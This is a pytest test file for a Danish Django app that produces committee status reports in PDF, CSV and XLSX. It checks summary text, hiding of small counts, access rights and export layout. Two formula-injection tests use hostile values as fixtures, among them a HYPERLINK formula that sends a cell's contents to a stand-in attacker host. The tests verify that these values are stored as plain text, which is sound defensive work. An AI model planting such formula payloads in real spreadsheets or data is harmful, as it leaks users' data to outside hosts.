"""The committee report tells the chain: first page in plain words, then per initiative figures, decisions,
follow-ups and investment case; the same for every reader, and never a number the committee may not see."""

import csv
import datetime
import io

import pytest
from django.core.management import CommandError, call_command
from openpyxl import load_workbook

from sporbar.committee import exports, services
from sporbar.committee.models import IssuedReport
from sporbar.committee.since import CHOSEN, NO_REPORT, since_for
from sporbar.effects import services as effects
from sporbar.plans.models import StatusUpdate

from . import pdfcheck
from .conftest import LAST_REPORT, TODAY

pytestmark = pytest.mark.django_db


def report(plan, fmt, since=None, today=TODAY) -> bytes:
    return exports.build(plan, fmt, since or since_for(plan, today=today), today)


def csv_sections(content: bytes) -> dict[str, list[list[str]]]:
    """{section name: its rows, header first}: a name alone on a line, then rows, then an empty line."""
    sections, name = {}, None
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"):
        if not row:
            name = None
        elif name is None:
            name = row[0]
            sections[name] = []
        else:
            sections[name].append(row)
    return sections


def test_the_first_page_tells_the_chain_in_plain_words(chain):
    pdf = pdfcheck.open_pdf(report(chain, "pdf"))
    first = pdf.pages[0].extract_text().replace("\n", " ")
    assert first.startswith("Statusrapport til udvalget Testplanen")
    for topic in ("Beslutninger", "Økonomi", "Rækkevidde", "Mål", "Investeringscases"):
        assert f" {topic} " in first
    # what was decided since the last report, and the follow-ups
    assert "Siden sidste rapport til udvalget den 01-06-2025 er der truffet 2 beslutninger om planens" in first
    assert "om planens initiativer på 1 møde." in first
    assert "1 opfølgning er åben, heraf 1 med overskredet frist." in first
    assert "10-11-2025, Rådmandsmøde: Børneindsatsen udvides. Godkendt." in first
    # what was spent: 250.000 kr. of the budget lines (1,5 mio.) and the one-off amounts of the two others
    assert "Planens initiativer har brugt 0,3 mio. kr. af deres budget på 3,5 mio. kr." in first
    # whom it reached: the young people's 3 courses are hidden, so they are not in the total
    assert "I 2025 var 26 forløb aktive i planens initiativer" in first and "færre end 5" in first
    assert "29 forløb" not in first
    # which targets were met: the children's 75 % (53 %–89 %) against 75 % cannot be decided
    assert "1 af initiativernes nøgletal har et mål for 2025: 0 er nået, 0 er ikke nået, og 1 kan endnu ikke" in first
    # how the investment cases stand
    assert "Børnecasen – nutidsværdi" in first and "1 af 1 konsekvens regnes med en målt rate" in first
    assert "Ungecasen – nutidsværdi" in first and "0 af 1 konsekvens regnes med en målt rate" in first
    assert "Initiativerne: status, økonomi" not in first  # the first page is the summary alone


def test_each_initiative_has_its_figures_charts_decisions_follow_ups_and_case(chain):
    text = pdfcheck.full_text(pdfcheck.open_pdf(report(chain, "pdf")))
    kids = text[text.index("1.1 Børneindsatsen\nStatus") : text.index("1.1 Jobindsatsen\nStatus")]
    assert "Seneste status 01-06-2025: Godt i gang med familierne." in kids
    assert "15 af 20" in kids and "53 %–89 %" in kids and "kan ikke afgøres" in kids
    assert "Figur 1. Mål nået eller forbedret – personlig udvikling" in kids
    assert "Beslutninger siden sidste rapport til udvalget (01-06-2025)" in kids
    assert "Børneindsatsen udvides. Godkendt. Center A følger op." in kids
    assert "Center A giver status på udvidelsen" in kids and "overskredet" in kids
    assert "Børnecasen" in kids and "Overnatning på forsorgshjem målt 75 %" in kids
    assert "Figur 2. Akkumuleret resultat pr. år, Børnecasen" in kids
    young = text[text.index("1.1 Ungeindsatsen\nStatus") :]
    assert "1) At indsatsen fortsætter. Godkendt" in young
    assert "Ungecasen" in young and "Overnatning på forsorgshjem antaget" in young


def test_decisions_before_the_last_report_and_confidential_ones_stay_out(chain):
    sections = csv_sections(report(chain, "csv"))
    decisions = [row[2] for row in sections["Beslutninger"][1:]]
    assert decisions == ["Børneindsatsen udvides", "Ungeindsatsen fortsætter"]
    follow_ups = [row[0] for row in sections["Opfølgninger"][1:]]
    assert follow_ups == ["Center A giver status på udvidelsen"]  # not the closed item's, not the one done in 2024
    everything = report(chain, "csv").decode("utf-8-sig") + pdfcheck.full_text(pdfcheck.open_pdf(report(chain, "pdf")))
    assert "Lukket sag" not in everything and "den lukkede sag" not in everything
    assert "Gammel sag" not in everything


def test_since_a_chosen_date_or_everything_without_an_earlier_report(chain):
    chosen = since_for(chain, datetime.date(2025, 1, 1), TODAY)
    assert chosen.source == CHOSEN
    titles = [d["title"] for d in services.report_data(chain, chosen, TODAY)["decisions"]]
    assert titles == ["Børneindsatsen udvides", "Ungeindsatsen fortsætter", "Børneindsatsen starter"]
    IssuedReport.objects.all().delete()
    since = since_for(chain, today=TODAY)
    assert since.source == NO_REPORT and since.date is None
    data = services.report_data(chain, since, TODAY)
    assert len(data["decisions"]) == 3
    assert data["summary"][0]["text"].startswith(
        "Der er ikke registreret en tidligere rapport til udvalget, så rapporten tager alle beslutninger med: "
        "3 beslutninger om planens initiativer på 2 møder. 1 opfølgning er åben"
    )
    # a follow-up finished long ago is in the report when everything is
    assert "Afsluttet opgave fra 2024" in [f["title"] for f in data["follow_ups"]]


def test_a_report_recorded_today_is_the_one_being_made_today(chain, org):
    since = since_for(chain, today=TODAY)
    services.issue(chain, org.analyst, since, "2025", today=TODAY)
    assert since_for(chain, today=TODAY).date == LAST_REPORT  # today's report still tells what happened since June
    tomorrow = since_for(chain, today=TODAY + datetime.timedelta(days=1))
    assert tomorrow.date == TODAY and tomorrow.last_report.issued_by == org.analyst


def test_the_report_is_the_committees_whoever_asks_for_it(chain, org, client_for):
    # Centre B's lead sees the young people's 3 of 3 on the pages ...
    young = next(
        f for f in effects.keyfigures(chain, org.lead_b) if f["scope"]["id"] == chain.young.id and f["period"] == "2025"
    )
    assert (young["count"], young["denominator"], young["suppressed"]) == (3, 3, False)
    # ... but gets the committee's report, the same as leadership's, without it.
    texts = {}
    for user in (org.lead_b, org.leadership):
        response = client_for(user).get(f"/planer/{chain.id}/effekt/rapport.pdf")
        assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
        texts[user.username] = pdfcheck.full_text(pdfcheck.open_pdf(response.content))
    assert len(set(texts.values())) == 1
    text = texts[org.lead_b.username]
    assert "3 af 3" not in text and "færre end 5" in text
    # the young people's measured 100 % is not used in their case either: the assumed rate is, marked
    book = load_workbook(io.BytesIO(client_for(org.lead_b).get(f"/planer/{chain.id}/effekt/rapport.xlsx").content))
    young_case = next(r for r in book["Konsekvenser"].iter_rows(values_only=True) if r[0] == "Ungecasen")
    assert young_case[2] == "antaget" and young_case[3] == pytest.approx(0.4)
    csv_text = client_for(org.lead_b).get(f"/planer/{chain.id}/effekt/rapport.csv").content.decode("utf-8-sig")
    assert ";3;3;" not in csv_text and "Ungeindsatsen;færre end 5;færre end 5;0" in csv_text


def test_xlsx_and_csv_carry_the_same_sections(chain):
    book = load_workbook(io.BytesIO(report(chain, "xlsx")))
    sections = csv_sections(report(chain, "csv"))
    assert book.sheetnames == list(sections)
    assert book.sheetnames[:8] == [
        "Sammenfatning",
        "Initiativer",
        "Rækkevidde og økonomi",
        "Nøgletal",
        "Beslutninger",
        "Opfølgninger",
        "Investeringscases",
        "Konsekvenser",
    ]
    for name in book.sheetnames:
        rows = list(book[name].iter_rows(values_only=True))
        assert len(rows) == len(sections[name]), name
        assert [str(v) for v in rows[0]] == sections[name][0], name
    texts = [r[1] for r in book["Sammenfatning"].iter_rows(values_only=True) if r[0] != "Udskrevet"]
    assert texts == [r[1] for r in sections["Sammenfatning"] if r[0] != "Udskrevet"]
    kids = next(r for r in book["Nøgletal"].iter_rows(values_only=True) if r[1] == "Børneindsatsen")
    assert kids[5:8] == (15, 20, 0.75) and kids[10] == 0.75 and kids[11] == "kan ikke afgøres"
    assert (
        ["initiativ", "Børneindsatsen", "mål nået eller forbedret", "personlig udvikling", "2025", "15", "20"]
        + ["75,0 %", "53,1 %", "88,8 %", "75,0 %", "kan ikke afgøres", ""]
    ) in sections["Nøgletal"]
    young = next(r for r in book["Nøgletal"].iter_rows(values_only=True) if r[1] == "Ungeindsatsen")
    assert young[5] == "færre end 5" and young[7] is None
    cases = {r[1]: r for r in book["Investeringscases"].iter_rows(values_only=True)}
    assert cases["Børnecasen"][10:12] == (1, 0) and cases["Ungecasen"][10:12] == (0, 1)
    assert [r[0] for r in sections["Investeringscases"][1:]] == ["Børneindsatsen", "Ungeindsatsen"]
    assert len(list(book["Lovende praksis"].iter_rows())) == 1 + 3  # header and the plan's three initiatives


def test_text_that_looks_like_a_formula_stays_text(chain):
    StatusUpdate.objects.create(
        initiative=chain.kids, date="2025-12-01", status="i_gang", light="gul", narrative='=HYPERLINK("http://x","y")'
    )
    assert '\'=HYPERLINK(""http://x"",""y"")' in report(chain, "csv").decode("utf-8-sig")
    book = load_workbook(io.BytesIO(report(chain, "xlsx")))
    cell = next(row[7] for row in book["Initiativer"].iter_rows() if row[1].value == "Børneindsatsen")
    assert cell.data_type == "s" and cell.value == '=HYPERLINK("http://x","y")'


def test_an_initiative_titled_as_a_formula_stays_text_in_xlsx_and_csv(chain):
    hostile = '=HYPERLINK("http://angriber.example/?x="&B2;"Se tal")'
    chain.kids.title = hostile
    chain.kids.save()
    StatusUpdate.objects.create(
        initiative=chain.kids, date="2025-07-01", status="i_gang", light="groen", narrative="@SUM(1)"
    )
    book = load_workbook(io.BytesIO(report(chain, "xlsx")))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert hostile in [c.value for c in cells] and "@SUM(1)" in [c.value for c in cells]
    text = report(chain, "csv").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert "'" + hostile in cells and "'@SUM(1)" in cells
    assert not [c for c in cells if c.startswith(("=", "+", "@"))]


def test_hostile_text_stays_inside_the_page(chain):
    long_word = "Ø" * 280  # the title field holds 300 characters
    chain.kids.title = "Børneindsatsen " + long_word
    chain.kids.save()
    StatusUpdate.objects.create(
        initiative=chain.kids,
        date="2025-12-01",
        status="i_gang",
        light="gul",
        narrative="https://example.org/" + "a" * 1500,
    )
    pdf = pdfcheck.open_pdf(report(chain, "pdf"))
    assert pdfcheck.text_outside_margins(pdf) == []
    assert long_word[:40] in pdfcheck.full_text(pdf).replace("\n", "")


def test_the_report_as_a_reader_of_the_pdf_sees_it(chain):
    content = report(chain, "pdf")
    pdf = pdfcheck.open_pdf(content)
    assert pdfcheck.text_outside_margins(pdf) == []
    assert len(pdfcheck.font_families(pdf)) == 1  # body, tables, charts and the footer in one font
    footers = [page.extract_text().splitlines()[-1] for page in pdf.pages]
    assert footers == [
        f"Statusrapport til udvalget, 01-03-2026 Side {n} af {len(pdf.pages)}" for n in range(1, len(pdf.pages) + 1)
    ]
    wide = [n for n, page in enumerate(pdf.pages, start=1) if page.width > page.height]
    assert wide == [2, 3]  # the overview of the initiatives and the promising-practice matrix: landscape
    captions = pdfcheck.figure_captions(pdf)
    assert [number for _page, number, _match in captions] == [1, 2, 3]
    assert all(pdfcheck.drawing_below(pdf.pages[page - 1], match) for page, _n, match in captions)


def test_a_plan_without_courses_decisions_or_cases_still_gets_its_report(plan):
    text = pdfcheck.full_text(pdfcheck.open_pdf(report(plan, "pdf")))
    assert "Der er endnu ingen vurderinger at regne nøgletal på." in text
    assert "Planen har endnu ingen investeringscases." in text and "Ingen beslutninger i perioden." in text
    assert "Der er ikke registreret en tidligere rapport til udvalget" in text
    assert csv_sections(report(plan, "csv"))["Nøgletal"] == [exports.FIGURE_HEADER]


def test_the_command_writes_the_report_and_records_it_when_asked(chain, org, tmp_path):
    target = tmp_path / "rapport.csv"
    call_command("report", "--plan", str(chain.id), "--format", "csv", "-o", str(target), stdout=io.StringIO())
    assert "Børneindsatsen" in target.read_text(encoding="utf-8-sig")
    assert IssuedReport.objects.count() == 1
    with pytest.raises(CommandError, match="angiv --as med en analytiker"):
        call_command("report", "--plan", str(chain.id), "--issue", "-o", str(target), stdout=io.StringIO())
    with pytest.raises(CommandError, match="må ikke hente rapporten"):
        call_command("report", "--plan", str(chain.id), "--as", "medarbejder-a", "-o", str(target))
    with pytest.raises(CommandError, match="»1-3-2025« er ikke en dato"):
        call_command("report", "--plan", str(chain.id), "--since", "1-3-2025", "-o", str(target))
    out = io.StringIO()
    call_command(
        "report", "--plan", str(chain.id), "--format", "csv", "--since", "2025-01-01", "-o", str(target), stdout=out
    )
    assert "Børneindsatsen starter" in target.read_text(encoding="utf-8-sig")  # the decision of January 2025
    call_command(
        "report", "--plan", str(chain.id), "--format", "csv", "--issue", "--as", "analytiker", "-o", str(target),
        stdout=out,
    )  # fmt: skip
    assert IssuedReport.objects.count() == 2 and IssuedReport.objects.first().issued_by == org.analyst
    assert "Registreret som sendt til udvalget" in out.getvalue()


# --- who may do what ------------------------------------------------------------------------------


def test_who_may_read_the_report_and_record_it_as_sent(chain, org, client_for):
    page, download, send = (
        f"/planer/{chain.id}/udvalgsrapport/",
        f"/planer/{chain.id}/effekt/rapport.csv",
        f"/planer/{chain.id}/udvalgsrapport/send/",
    )
    for user in (org.admin, org.analyst, org.leadership, org.lead_a, org.lead_b):
        client = client_for(user)
        assert client.get(page).status_code == 200 and client.get(download).status_code == 200
    for user in (org.worker_a, org.worker_b):  # the report holds the investment cases, which workers do not read
        client = client_for(user)
        assert client.get(page).status_code == 403 and client.get(download).status_code == 403
        assert client.post(send).status_code == 403
    for user in (org.leadership, org.lead_a):
        assert client_for(user).post(send).status_code == 403
        assert "Registrér som sendt" not in client_for(user).get(page).content.decode()
    assert IssuedReport.objects.count() == 1
    client = client_for(org.analyst)
    assert client.get(send).status_code == 405  # recording is a POST
    response = client.post(send, follow=True)
    assert response.status_code == 200 and "er registreret som sendt til udvalget" in response.content.decode()
    latest = IssuedReport.objects.first()
    assert latest.issued_by == org.analyst and latest.covers_from == LAST_REPORT
    html = client.get(page).content.decode()
    assert "Rapporter sendt til udvalget" in html and "01-06-2025" in html
    assert client.get(f"/planer/{chain.id}/effekt/rapport.doc").status_code == 404


def test_a_chosen_date_on_the_page_goes_into_the_downloads_and_a_bad_one_is_refused(chain, org, client_for):
    client = client_for(org.leadership)
    html = client.get(f"/planer/{chain.id}/udvalgsrapport/?siden=2025-01-01").content.decode()
    assert f"/planer/{chain.id}/effekt/rapport.csv?siden=2025-01-01" in html
    content = client.get(f"/planer/{chain.id}/effekt/rapport.csv?siden=2025-01-01").content.decode("utf-8-sig")
    assert "Børneindsatsen starter" in content
    html = client.get(f"/planer/{chain.id}/udvalgsrapport/?siden=i+går", follow=True).content.decode()
    assert "Datoen skal skrives som ÅÅÅÅ-MM-DD" in html
